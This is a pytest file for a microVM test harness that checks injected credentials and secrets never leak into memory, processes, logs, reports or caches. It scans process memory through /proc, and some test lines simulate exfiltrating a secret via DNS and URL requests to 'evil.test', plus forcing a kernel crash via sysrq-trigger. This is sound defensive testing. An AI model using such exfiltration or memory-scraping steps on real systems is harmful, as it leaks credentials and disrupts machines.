"""What a machine never holds (credentials), and what nobody else ever sees (credentials and secrets).

The values come from a command that makes them up from its argument, so that before the run they are in no
file, no environment and no process; whatever has one afterwards has leaked it.
"""

import base64
import contextlib
import gzip
import hashlib
import http.server
import json
import os
import secrets
import ssl
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import quote

import pytest

from pytest_microvm.untrusted.redaction import variants
from support import guards
from support.commands import MICROVM, PYTEST
from support.local_servers import LocalServer
from support.network import PUBLIC

PIECE, OVERLAP = 16 << 20, 256  # bytes
GIVE = """
import sys

print(f"{sys.argv[1][::-1]}/+=&{sys.argv[1]}")
"""
SAY = """
import base64, sys, urllib.parse

value = sys.stdin.read() if len(sys.argv) < 2 else open(sys.argv[1]).read()
raw = value.encode()
for way in (value, base64.b64encode(raw).decode(), base64.urlsafe_b64encode(b"user:" + raw).decode(),
            urllib.parse.quote(value), urllib.parse.quote(value, safe=""), urllib.parse.quote_plus(value)):
    print(f"[{way}]", flush=True)
"""
FETCH = """
import json, sys, urllib.error, urllib.request

got = {}
for name, url, headers in json.load(sys.stdin):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=60) as answer:
            got[name] = [answer.status, str(answer.headers) + answer.read().decode("latin-1")]
    except urllib.error.HTTPError as error:
        got[name] = [error.code, error.read().decode("latin-1")]
print(json.dumps(got))
"""


class Source:
    """A command that gives a value, and the value.

    What is looked for is its first half, which no process has in its arguments: as it is, so in JSON and URLs
    too, and what it is in the middle of base64. Both alphabets have these letters.
    """

    def __init__(self, folder):
        script = folder / "give.py"
        script.write_text(GIVE)
        seed = secrets.token_hex(16)
        half = seed[::-1]
        self.command = f"{Path(sys.executable).resolve()} {script} {seed}"  # no project's Python
        self.value = f"{half}/+=&{seed}"
        coded = [base64.b64encode(b"." * before + half.encode())[4:-4] for before in range(3)]
        self.forms = [half.encode(), *coded]
        assert all(form.decode() in "".join(sorted(variants(self.value))) for form in self.forms)

    def in_(self, data):
        """Return the forms of the value that are in some bytes."""
        return [form for form in self.forms if form in data]


class Api(LocalServer):
    """A server over TLS that sends back what it gets, in many ways, and remembers it."""

    def __init__(self, *names):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        PUBLIC.issue_cert(*names).configure_cert(context)
        super().__init__(_Handler, context)
        self.seen = []


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        told = self.headers.get("Authorization", "") + self.headers.get("X-Key", "") + self.path
        self.server.seen.append((self.headers["Host"], told))
        getattr(self, f"do_{self.path.strip('/').partition('?')[0]}")(told)

    def answer(self, body, status=200, **headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_plain(self, told):
        self.answer(told.encode(), X_Echo=told, Set_Cookie=f"key={quote(told)}")

    def do_encoded(self, told):
        raw = told.encode()
        self.answer(base64.b64encode(raw) + base64.b64encode(b"." + raw) + quote(told, safe="").encode())

    def do_chunks(self, told):
        self.send_response(200)
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for byte in told.encode():
            self.wfile.write(b"1\r\n%c\r\n" % byte)
            self.wfile.flush()
        self.wfile.write(b"0\r\n\r\n")

    def do_gzip(self, told):
        self.answer(gzip.compress(told.encode()), Content_Encoding="gzip")

    def do_redirect(self, _told):
        self.answer(b"", 302, Location="https://other.test/plain")

    def log_message(self, *_):
        pass


@pytest.fixture
def source(tmp_path):
    return Source(tmp_path)


@pytest.fixture
def api(tmp_path, monkeypatch):
    """A server called api.test and other.test; the company's authority vouches for it."""
    PUBLIC.cert_pem.write_to_path(tmp_path / "company.pem")
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "company.pem"))
    with Api("api.test", "other.test") as server:
        yield server


def memory_of(pid):
    """Yield all that a process has in its memory, in pieces that overlap."""
    with Path(f"/proc/{pid}/maps").open() as maps, Path(f"/proc/{pid}/mem").open("rb", 0) as memory:
        for line in maps:
            span, mode, _rest = line.split(maxsplit=2)
            if "r" in mode and "[v" not in line:
                yield from pieces(memory.fileno(), *(int(part, 16) for part in span.split("-")))


def content_of(path):
    """Yield all that is in a file but its holes, in pieces that overlap."""
    with path.open("rb", 0) as file:
        end, size = 0, os.fstat(file.fileno()).st_size
        while end < size:
            try:
                begin = os.lseek(file.fileno(), end, os.SEEK_DATA)
            except OSError:  # nothing but holes
                return
            end = os.lseek(file.fileno(), begin, os.SEEK_HOLE)
            yield from pieces(file.fileno(), begin, end)


def pieces(fd, begin, end):
    while begin < end:
        try:
            data = os.pread(fd, min(end - begin, PIECE), begin)
        except OSError:  # of a device
            return
        yield data
        begin += max(1, len(data) - OVERLAP) if begin + len(data) < end else len(data) or PIECE


def holders(sources, folders, since):
    """Return the files below ``folders``, written since then, that hold a value in any form.

    What is gone by the time it is looked at holds nothing: the cache is every test's.
    """
    files = [Path(root, name) for folder in folders for root, _, names in os.walk(folder) for name in names]
    looked_at, found = 0, []
    for path in files:
        with contextlib.suppress(FileNotFoundError):
            status = path.lstat()
            if stat.S_ISREG(status.st_mode) and status.st_mtime >= since:
                looked_at += 1
                found += [str(path) for data in content_of(path) for source in sources if source.in_(data)]
    assert looked_at
    return found


@contextlib.contextmanager
def watched(*sources):
    """Look at the arguments and variables of all processes, again and again while the block runs."""
    found, ended = set(), threading.Event()

    def look():
        while not ended.wait(0.5):
            for path in Path("/proc").glob("[0-9]*"):
                with contextlib.suppress(OSError):
                    shown = (path / "cmdline").read_bytes() + (path / "environ").read_bytes()
                    if any(source.in_(shown) for source in sources):
                        found.add(shown)

    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield found
    finally:
        ended.set()
        thread.join()


def test_what_is_searched_for_is_found(source, tmp_path):
    value = source.value
    ways = [value, quote(value, safe=""), json.dumps(value)]
    ways += [base64.b64encode(f"{'x' * before}{value}".encode()).decode() for before in range(3)]
    for number, way in enumerate(ways):
        (tmp_path / f"file{number}").write_bytes(bytes(PIECE - 20) + way.encode())  # where two pieces meet
    assert sorted(set(holders([source], [tmp_path], 0))) == [
        str(tmp_path / f"file{number}") for number in range(len(ways))
    ]


def test_a_credential_is_used_and_never_held(host, api, source, tmp_path):
    hosts = dict.fromkeys(("api.test", "other.test"), f"127.0.0.1:{api.port}")
    credential = {"host": "api.test", "value": {"command": source.command}, "variable": "API_TOKEN"}
    key = {"host": "api.test", "header": "X-Key", "value": {"command": source.command}}
    begin = time.time()
    with (
        watched(source) as in_processes,
        host.start(
            image="python", network=["api.test", "other.test"], hosts=hosts, credentials=[credential, key]
        ) as vm,
    ):
        placeholder = vm.run(["printenv", "API_TOKEN"], check=True).stdout.strip()
        own = {"Authorization": f"Bearer {placeholder}"}
        asked = [(name, f"https://api.test/{name}", own) for name in ("plain", "encoded", "chunks", "gzip")]
        asked += [
            ("redirect", "https://api.test/redirect", own),
            ("other", "https://other.test/plain", own),
            ("no TLS", "http://api.test/plain", own),
        ]
        got = json.loads(vm.run(["python3", "-c", FETCH], input=json.dumps(asked), check=True).stdout)
        assert {name: status for name, (status, _text) in got.items()} == {
            "plain": 200, "encoded": 200, "chunks": 200, "gzip": 502, "redirect": 200, "other": 200,
            "no TLS": 403,
        }  # fmt: skip
        assert [name for name, (_status, text) in got.items() if source.in_(text.encode())] == []
        told = {(name, value.rpartition("/")[2]): value for name, value in api.seen}
        for path in ("plain", "encoded", "chunks", "gzip", "redirect"):
            assert told["api.test", path] == f"Bearer {source.value}{source.value}/{path}"
        assert told["other.test", "plain"] == f"Bearer {placeholder}/plain"
        # All that its root could ever read is in its memory, or was: devices' buffers are searched too.
        seen = [(placeholder.encode() in data, source.in_(data)) for data in memory_of(vm.instance.vmm.pid)]
        assert any(found for found, _held in seen)  # what is there is found
        assert [held for _found, held in seen if held] == []
        assert vm.run("cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -c API_TOKEN").stdout != "0\n"
        shown = f"{vm.events}{vm.network.requests}{vm.instance.console_text(1000)}{vm!r}{vm.instance.given!r}"
        assert source.in_(shown.encode()) == []
    assert in_processes == set()
    (tmp_path / "looked-at").write_text("where the cache has all it needs, nothing in it is new")
    assert holders([source], [host.cache, tmp_path], begin - 1) == []


def secret_given(source, *, as_file=False):
    return {"command": source.command, **({"as": "file"} if as_file else {})}


def test_secrets_reach_the_machine_and_are_never_shown_or_stored(host, source, tmp_path):
    begin = time.time()
    given = {"TOKEN": secret_given(source), "KEY": secret_given(source, as_file=True)}
    with watched(source) as in_processes, host.start(image="python", secrets=given) as vm:
        vm.path("/tmp/say.py").write_text(SAY)
        expected = hashlib.sha256(source.value.encode()).hexdigest()
        digests = vm.run('printf %s "$TOKEN" | sha256sum; sha256sum < /run/secrets/KEY', check=True).stdout
        assert digests == f"{expected}  -\n" * 2
        described = vm.run(["stat", "-c", "%a %u", "/run/secrets/KEY"]).stdout.split()
        assert described == ["400", "0"]
        assert vm.run(["stat", "-f", "-c", "%T", "/run/secrets/KEY"]).stdout.strip() == "tmpfs"
        assert vm.run(["cat", "/run/secrets/KEY"], user="nobody").returncode != 0
        assert vm.run("printenv KEY").returncode != 0
        # Output, at once and in pieces that end anywhere
        done = vm.run(["python3", "/tmp/say.py", "/run/secrets/KEY"], check=True)
        assert done.stdout.startswith("[***]\n[***")
        assert done.stdout.count("***") == 6
        assert source.in_(done.stdout.encode()) == []
        slowly = (
            'i=1; while [ $i -le ${#TOKEN} ]; do printf %s "$TOKEN" | cut -c$i-$((i+6)) | tr -d "\\n"; '
            "i=$((i+7)); done; echo .; echo $TOKEN >&2"
        )
        with vm.popen(slowly) as process:
            assert process.communicate() == ("***.\n", "***\n")
        # Everything else that is shown
        vm.run("echo console $TOKEN > /dev/console; python3 /tmp/say.py /run/secrets/KEY > /dev/console")
        vm.run(f"true {source.value}")  # a command that the host's own code wrote so
        with pytest.raises(subprocess.CalledProcessError) as failed:
            vm.run("echo $TOKEN; cat /no/$TOKEN", check=True)
        with pytest.raises(subprocess.TimeoutExpired) as late:
            vm.run("echo $TOKEN; sleep 60", timeout=1)
        assert "console ***" in vm.instance.console_text(1000)
        for error in (failed.value, late.value):
            assert source.in_(f"{error} {error.__dict__}".encode()) == [], error
        assert (
            source.in_(f"{vm.events} {vm.instance.console_text(1000)} {vm.instance.given!r}".encode()) == []
        )
        assert any(map(source.in_, memory_of(vm.instance.vmm.pid)))  # the search finds what is there
    assert in_processes == set()
    (tmp_path / "looked-at").write_text("where the cache has all it needs, nothing in it is new")
    assert holders([source], [host.cache, tmp_path], begin - 1) == []


def test_a_secret_in_a_name_is_not_shown(host, tmp_path):
    """What a machine asks for is shown, and its secrets could be in that."""
    value = secrets.token_hex(12)
    (tmp_path / "value").write_text(value)
    with host.start(image="base", secrets={"TOKEN": {"file": str(tmp_path / "value")}}) as vm:
        assert vm.run("getent hosts $TOKEN.evil.test; printenv TOKEN").stdout == "***\n"
        assert [entry.host for entry in vm.network.requests] == ["***.evil.test"]
        assert value not in f"{vm.network.requests}{vm.events}"


SUITE = """
    import base64, os, urllib.parse, urllib.request, warnings
    from pathlib import Path
    import pytest

    def value():
        return os.environ["TOKEN"]

    def test_file():
        path = Path("/run/secrets/KEY")
        assert path.read_text() == value()
        assert path.stat().st_mode & 0o777 == 0o400

    def test_credential():
        with urllib.request.urlopen("https://api.test/plain", timeout=60) as answer:
            print(answer.headers, answer.read())

    def test_fails():
        told = value()
        print(told, base64.b64encode(b"a" + told.encode()).decode(), urllib.parse.quote(told, safe=""))
        warnings.warn(told)
        assert told == "something else"

    def test_raises(record_property):
        record_property("told", value())
        record_property(value(), "told")
        raise ValueError(f"cannot log in with {value()!r}")

    def test_skips():
        pytest.skip(f"no server takes {value()}")

    def test_denied():
        with pytest.raises(OSError):
            urllib.request.urlopen(f"http://{value()[:20]}.evil.test/{value()}")

    def test_panics():
        Path("/dev/console").write_text(f"console {value()}\\n")
        Path("/proc/sysrq-trigger").write_text("c")
"""


def test_a_suite_shows_them_nowhere(host, api, source, tmp_path):
    """Reports, JUnit, artifacts, templates, and the machines of tests that failed."""
    key = Source(tmp_path)
    project = tmp_path / "project"
    project.mkdir()
    (project / "pytest.ini").write_text("[pytest]\n")
    (project / "test_it.py").write_text("\n".join(line[4:] for line in SUITE.split("\n")))
    begin = time.time()
    command = [
        *PYTEST, "--microvm", "-rA", "-vv", "--durations=0",
        "--junitxml=junit.xml", "--microvm-artifacts=artifacts", "--microvm-keep=failed", "-o",
        "junit_logging=all", "--microvm-network=api.test", f"--microvm-host=api.test=127.0.0.1:{api.port}",
        f"--microvm-credential=host=api.test,command={key.command}",
        f"--microvm-secret=TOKEN=command:{source.command}",
        f"--microvm-secret=KEY=command:{source.command},as=file", "--microvm-retries=0",
    ]  # fmt: skip
    with watched(source, key) as in_processes:
        done = subprocess.run(
            command, cwd=project, capture_output=True, text=True, timeout=guards.SUITE, check=False
        )
    said = done.stdout + done.stderr
    assert "3 failed, 3 passed, 1 skipped" in said, said
    assert "cannot log in with '***'" in said
    assert api.seen == [("api.test", f"Bearer {key.value}/plain")]
    assert "machines that hold secrets are not kept" in said
    assert not [kept for kept in host.kept() if kept.since >= begin and "test_it.py" in kept.about]
    written = sorted(path.name for path in project.rglob("*") if path.is_file())
    assert {"junit.xml", "console.txt", "events.jsonl", "network.jsonl", "report.txt"} <= set(written)
    assert [one.in_(said.encode()) for one in (source, key)] == [[], []]
    assert in_processes == set()
    assert holders([source, key], [project, host.cache], begin - 1) == []


def test_a_command_shows_them_nowhere(source, tmp_path):
    command = [
        *MICROVM, "run", "--image", "base",
        "--record", f"{tmp_path}/record", "--secret", f"TOKEN=command:{source.command}",
        "--", "sh", "-c", "echo $TOKEN; echo $TOKEN | base64 -w0 >&2; echo $TOKEN > /dev/console",
    ]  # fmt: skip
    with watched(source) as in_processes:
        done = subprocess.run(command, capture_output=True, text=True, timeout=guards.SUITE, check=True)
    assert done.stdout == "***\n"
    assert "***" in done.stderr
    assert source.in_((done.stdout + done.stderr).encode()) == []
    assert "***" in (tmp_path / "record/console.txt").read_text()
    assert in_processes == set()
    assert holders([source], [tmp_path / "record"], 0) == []
